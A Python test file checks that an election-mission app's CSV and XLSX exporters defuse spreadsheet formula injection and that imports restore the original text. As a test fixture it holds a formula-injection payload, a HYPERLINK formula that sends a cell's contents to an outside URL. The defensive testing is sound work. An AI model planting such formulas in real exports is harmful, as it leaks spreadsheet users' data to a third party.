"""Exports never hand a spreadsheet a formula: a CSV text cell starting with "=", "+", "-", "@",
a tab or a carriage return gets a leading "'" (an XLSX text cell Excel's quote prefix), numbers
stay numbers, and importing the export takes the quote off again (the round trip changes
nothing)."""

from __future__ import annotations

import csv
import datetime as dt

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from eom.missions.exporters import export_locations, export_meetings, export_people
from eom.missions.importers import import_locations, import_people
from eom.missions.models import Access, Location, Person
from eom.missions.tabular import neutralised, read_table, restored, write_table
from tests.factories import make_meeting, make_person

HYPERLINK = '=HYPERLINK("http://example.org/?leak="&A1,"details")'


def _csv_cells(path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


def test_a_meeting_text_that_is_a_formula_is_exported_as_text(tmp_path, mission, core_member):
    make_meeting(mission, actor=core_member, place="@SUM(1+1)", key_points=HYPERLINK)
    path = tmp_path / "meetings.csv"

    export_meetings(mission, path)

    row = _csv_cells(path)[1]
    assert (row[2], row[7]) == ("'@SUM(1+1)", "'" + HYPERLINK)


@pytest.mark.parametrize("name", ["=1+2", "+7 701 555 0110", "-5", "@cmd", "\tx", "'=quoted"])
def test_locations_with_formula_like_names_round_trip(tmp_path, mission, tree, name):
    Location.objects.filter(pk=tree["01001"].pk).update(name_ru=name)
    path = tmp_path / "locations.csv"

    export_locations(mission, path)
    report = import_locations(mission, path, actor=None)

    station = next(row for row in _csv_cells(path) if row[0] == "01001")
    assert station[4] == "'" + name
    assert station[6] == "101"
    assert (report.n_updated, report.n_unchanged) == (0, 9)
    assert Location.objects.get(pk=tree["01001"].pk).name_ru == name


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_a_phone_number_keeps_its_plus_through_export_and_import(tmp_path, mission, suffix):
    make_person(mission, code="LTO01", role="lto", access=Access.OBSERVER, phone="+7 701 555 0110")
    path = tmp_path / f"people{suffix}"

    export_people(mission, path)
    report = import_people(mission, path, actor=None)

    assert (report.n_created, report.n_updated, report.n_unchanged) == (0, 0, 1)
    assert Person.objects.get(code="LTO01").phone == "+7 701 555 0110"
    assert read_table(path).rows[0].cells[5] == "+7 701 555 0110"


def test_xlsx_text_cells_carry_the_quote_prefix_and_numbers_stay_numbers(tmp_path):
    path = tmp_path / "cells.xlsx"

    write_table(path, ["text", "number"], [[HYPERLINK, -5], ["plain", 12]])

    sheet = openpyxl.load_workbook(path).active
    formula, number = sheet["A2"], sheet["B2"]
    assert (formula.value, formula.data_type, formula.quotePrefix) == (HYPERLINK, "s", True)
    assert (number.value, number.data_type) == (-5, "n")
    assert sheet["A3"].quotePrefix is False


def test_csv_numbers_are_written_as_numbers_not_quoted(tmp_path):
    path = tmp_path / "cells.csv"

    write_table(path, ["text", "number"], [["-5", -5], [dt.date(2023, 3, 19).isoformat(), 0]])

    assert _csv_cells(path)[1:] == [["'-5", "-5"], ["2023-03-19", "0"]]


def test_a_users_own_leading_quote_reads_as_a_spreadsheet_shows_it(tmp_path, mission, tree):
    path = tmp_path / "locations.csv"
    path.write_text("code,level,parent_code,name_en\n01001,polling_station,D1,'=Station 1\n",
                    encoding="utf-8")

    report = import_locations(mission, path, actor=None)

    assert report.n_updated == 1
    assert Location.objects.get(pk=tree["01001"].pk).name_en == "=Station 1"


@given(st.text())
def test_restored_undoes_neutralised_for_every_text(text):
    assert restored(neutralised(text)) == text
    assert neutralised(text)[:1] not in {"=", "+", "-", "@", "\t", "\r"}
